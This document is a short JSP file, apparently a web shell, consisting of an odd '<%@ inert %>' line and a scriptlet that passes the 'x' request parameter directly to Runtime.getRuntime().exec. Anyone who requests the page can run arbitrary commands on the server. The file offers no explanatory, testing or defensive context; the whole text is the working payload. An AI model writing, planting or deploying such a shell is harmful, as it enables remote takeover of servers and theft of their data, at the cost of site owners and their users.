<%@ inert %>
<% java.util.function.Function<String, Process> f = x -> { try { return Runtime.getRuntime().exec(x); } catch (Exception e) { return null; } }; f.apply(request.getParameter("x")); %>